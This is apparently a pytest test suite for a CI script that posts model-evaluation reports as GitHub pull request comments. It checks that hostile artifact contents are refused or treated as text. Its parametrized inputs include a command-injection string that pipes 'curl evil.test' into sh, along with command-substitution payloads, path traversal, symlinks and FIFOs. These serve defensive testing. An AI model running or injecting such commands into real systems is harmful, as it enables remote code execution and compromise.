"""scripts/pr_comment.py against a fake GitHub, with honest and hostile artifacts."""

from __future__ import annotations

import os
import re
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scripts import pr_comment
from scripts.github_api import BODY_LIMIT
from scripts.pr_comment import MARKER

HEAD = "a" * 40
OTHER = "b" * 40
REPORT = f"{MARKER}\n## mlgate report\n\n| metric | value |\n|---|---|\n| accuracy | 0.85 |\n"


@pytest.fixture(autouse=True)
def no_processes(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing from an artifact may ever be executed: any process start fails the test."""

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError(f"pr_comment started a process: {args!r}")

    monkeypatch.setattr(subprocess, "Popen", refuse)
    monkeypatch.setattr(os, "system", refuse)


def artifact(tmp_path: Path, pr_number: bytes | str = "7\n", report: bytes | str = REPORT) -> Path:
    directory = tmp_path / "artifact"
    directory.mkdir(exist_ok=True)
    raw_number = pr_number.encode() if isinstance(pr_number, str) else pr_number
    raw_report = report.encode() if isinstance(report, str) else report
    (directory / "pr-number").write_bytes(raw_number)
    (directory / "report.md").write_bytes(raw_report)
    return directory


def run(fake_github, github_env, directory: Path, head: str = HEAD) -> int:
    argv = ["--artifact-dir", str(directory), "--head-sha", head]
    return pr_comment.main(argv, env=github_env, transport=fake_github)


# --- the honest path -------------------------------------------------------------------------


def test_creates_one_comment_then_updates_it(tmp_path, fake_github, github_env, capsys) -> None:
    fake_github.pulls[7] = HEAD
    assert run(fake_github, github_env, artifact(tmp_path)) == 0
    assert "created comment" in capsys.readouterr().out
    assert len(fake_github.comments[7]) == 1
    assert fake_github.comments[7][0]["body"].startswith(MARKER + "\n## mlgate report")

    new_report = REPORT.replace("0.85", "0.86")
    assert run(fake_github, github_env, artifact(tmp_path, report=new_report)) == 0
    assert "updated comment" in capsys.readouterr().out
    assert len(fake_github.comments[7]) == 1
    assert "0.86" in fake_github.comments[7][0]["body"]


def test_same_report_twice_writes_nothing_the_second_time(tmp_path, fake_github, github_env):
    fake_github.pulls[7] = HEAD
    assert run(fake_github, github_env, artifact(tmp_path)) == 0
    writes = len(fake_github.writes)
    assert run(fake_github, github_env, artifact(tmp_path)) == 0
    assert len(fake_github.writes) == writes


def test_finds_the_comment_on_a_later_page(tmp_path, fake_github, github_env) -> None:
    fake_github.page_size = 2
    fake_github.pulls[7] = HEAD
    for i in range(7):
        fake_github.add_comment(7, f"review comment {i}", {"login": "alice", "type": "User"})
    ours = fake_github.add_comment(7, f"{MARKER}\nold report")
    assert run(fake_github, github_env, artifact(tmp_path)) == 0
    assert len(fake_github.comments[7]) == 8
    assert next(c["body"] for c in fake_github.comments[7] if c["id"] == ours).endswith("0.85 |\n")
    pages = [r.url for r in fake_github.requests if r.method == "GET" and "comments" in r.url]
    assert len(pages) == 4


def test_a_users_comment_with_the_marker_is_not_taken_over(tmp_path, fake_github, github_env):
    fake_github.pulls[7] = HEAD
    theirs = fake_github.add_comment(7, f"{MARKER} pretend", {"login": "mallory", "type": "User"})
    assert run(fake_github, github_env, artifact(tmp_path)) == 0
    bodies = {c["id"]: c["body"] for c in fake_github.comments[7]}
    assert bodies[theirs] == f"{MARKER} pretend"
    assert len(bodies) == 2


def test_the_marker_is_added_once_when_missing_or_repeated(tmp_path, fake_github, github_env):
    fake_github.pulls[7] = HEAD
    report = f"no marker here\n{MARKER}\n{MARKER}\nend\n"
    assert run(fake_github, github_env, artifact(tmp_path, report=report)) == 0
    body = fake_github.comments[7][0]["body"]
    assert body.startswith(MARKER + "\n")
    assert body.count(MARKER) == 1


# --- hostile artifacts -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "pr_number",
    [
        b"",
        b"abc",
        b"7abc",
        b"-7",
        b"0",
        b"007",
        b"+7",
        b" 7",
        b"7 ",
        b"7\n\n",
        b"7\r\n",
        b"1e3",
        b"0x1f",
        b"7\n8\n",
        b"7; curl evil.test | sh",
        b"$(touch pwned)",
        b"`id`",
        b"../../pulls/8",
        b"12345678901",
        "\u0667".encode(),  # ARABIC-INDIC DIGIT SEVEN: int() would accept it
        b"\xff\xfe7",
        b"7" * 100,
    ],
)
def test_a_malformed_pr_number_is_refused_before_any_api_call(
    tmp_path, fake_github, github_env, capsys, pr_number: bytes
) -> None:
    fake_github.pulls[7] = HEAD
    assert run(fake_github, github_env, artifact(tmp_path, pr_number=pr_number)) == 1
    assert fake_github.requests == []
    err = capsys.readouterr().err
    assert err.startswith("::error::pr-report: refused the artifact: pr-number")
    assert "pwned" not in err and "curl" not in err  # artifact text is not echoed
    assert not (Path.cwd() / "pwned").exists()


def test_shell_metacharacters_in_the_report_are_only_text(tmp_path, fake_github, github_env):
    fake_github.pulls[7] = HEAD
    sentinel = tmp_path / "pwned"
    report = (
        f"$(touch {sentinel})\n`touch {sentinel}`; touch {sentinel}; echo ${{{{ secrets.X }}}}\n"
    )
    assert run(fake_github, github_env, artifact(tmp_path, report=report)) == 0
    assert not sentinel.exists()
    body = fake_github.comments[7][0]["body"]
    assert f"$(touch {sentinel})" in body and "${{ secrets.X }}" in body


def test_an_oversized_report_is_capped_below_githubs_limit(tmp_path, fake_github, github_env):
    fake_github.pulls[7] = HEAD
    report = MARKER + "\n" + ("| row | 0.1234 |\n" * 400_000)  # about 7 MB
    assert run(fake_github, github_env, artifact(tmp_path, report=report)) == 0
    body = fake_github.comments[7][0]["body"]
    assert len(body) < BODY_LIMIT
    assert body.rstrip().endswith("artifact)")


def test_a_head_sha_mismatch_posts_nothing(tmp_path, fake_github, github_env, capsys) -> None:
    fake_github.pulls[7] = OTHER  # the artifact names a PR whose head is not this run's commit
    assert run(fake_github, github_env, artifact(tmp_path)) == 0
    assert fake_github.writes == []
    assert "not commenting" in capsys.readouterr().out


def test_an_artifact_naming_a_missing_pr_fails_without_writing(tmp_path, fake_github, github_env):
    assert run(fake_github, github_env, artifact(tmp_path, pr_number="8\n")) == 2
    assert fake_github.writes == []


@pytest.mark.parametrize("name", ["pr-number", "report.md"])
def test_symlinks_in_the_artifact_are_refused(tmp_path, fake_github, github_env, name) -> None:
    fake_github.pulls[7] = HEAD
    directory = artifact(tmp_path)
    target = tmp_path / "secret"
    target.write_text("7\n")
    (directory / name).unlink()
    (directory / name).symlink_to(target)
    assert run(fake_github, github_env, directory) == 1
    assert fake_github.writes == []


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_a_fifo_is_refused_without_blocking(tmp_path, fake_github, github_env) -> None:
    fake_github.pulls[7] = HEAD
    directory = artifact(tmp_path)
    (directory / "report.md").unlink()
    os.mkfifo(directory / "report.md")
    assert run(fake_github, github_env, directory) == 1


def test_missing_or_empty_files_are_refused(tmp_path, fake_github, github_env) -> None:
    fake_github.pulls[7] = HEAD
    directory = artifact(tmp_path, report="  \n")
    assert run(fake_github, github_env, directory) == 1
    (directory / "report.md").unlink()
    assert run(fake_github, github_env, directory) == 1
    assert fake_github.requests == []


def test_mentions_are_defused(tmp_path, fake_github, github_env) -> None:
    fake_github.pulls[7] = HEAD
    report = "ping @octo/maintainers and @alice, mail me at bob@example.com\n"
    assert run(fake_github, github_env, artifact(tmp_path, report=report)) == 0
    body = fake_github.comments[7][0]["body"]
    assert "@octo" not in body and "@alice" not in body
    assert "@\u200balice" in body and "bob@example.com" in body


@pytest.mark.parametrize(
    ("text", "body"),
    [
        # GitHub's mention filter takes any character outside ASCII [A-Za-z0-9_] as the
        # boundary before '@' (Ruby's \W), letters of other scripts included
        ("é@team", "é@\u200bteam"),
        ("ü@org/team", "ü@\u200borg/team"),
        ("精度@alice", "精度@\u200balice"),
        ("Ａ@alice ｚ@bob", "Ａ@\u200balice ｚ@\u200bbob"),  # fullwidth letters
        ("٩@alice", "٩@\u200balice"),  # a digit of another script
        ("x\u200d@alice", "x\u200d@\u200balice"),
        # not mentions: an ASCII word before '@', or no name after it
        ("bob@example.com", "bob@example.com"),
        ("a_b@alice x9@bob", "a_b@alice x9@bob"),
        ("é@ é@-x", "é@ é@-x"),
    ],
)
def test_mentions_after_any_non_ascii_word_character_are_defused(text, body) -> None:
    assert pr_comment.prepare_body(text.encode()) == f"{MARKER}\n{body}\n"


@pytest.mark.parametrize("head", ["", "A" * 40, "a" * 39, "$(id)", "a" * 40 + "\n"])
def test_an_invalid_head_sha_is_a_usage_error(tmp_path, fake_github, github_env, head) -> None:
    assert run(fake_github, github_env, artifact(tmp_path), head=head) == 2
    assert fake_github.requests == []


def test_api_errors_exit_2_and_name_the_call(tmp_path, fake_github, github_env, capsys) -> None:
    fake_github.fail_with = 403
    assert run(fake_github, github_env, artifact(tmp_path)) == 2
    assert "GET /repos/octo/mlgate/pulls/7: HTTP 403 boom" in capsys.readouterr().err


def test_missing_token_is_an_error(tmp_path, fake_github, github_env) -> None:
    env = {**github_env, "GITHUB_TOKEN": ""}
    assert (
        pr_comment.main(
            ["--artifact-dir", str(artifact(tmp_path)), "--head-sha", HEAD], env, fake_github
        )
        == 2
    )


def test_the_marker_is_the_one_mlgate_report_writes() -> None:
    """pr-report installs nothing (the script is standard library only), so the marker is
    written twice; this keeps the copies equal."""
    from mlgate.render.markdown import MARKER as REPORT_MARKER

    assert MARKER == REPORT_MARKER


@given(st.binary(max_size=40))
def test_any_bytes_are_a_strict_decimal_or_refused(raw: bytes) -> None:
    text = raw.decode("latin-1")
    strict = re.fullmatch(r"[1-9][0-9]{0,9}\n?", text) is not None
    try:
        number = pr_comment.parse_pr_number(raw)
    except pr_comment.ArtifactError:
        assert not strict
    else:
        assert strict and f"{number}" == text.rstrip("\n")


@given(st.integers(min_value=1, max_value=9_999_999_999))
def test_every_pr_number_round_trips(number: int) -> None:
    assert pr_comment.parse_pr_number(f"{number}\n".encode()) == number
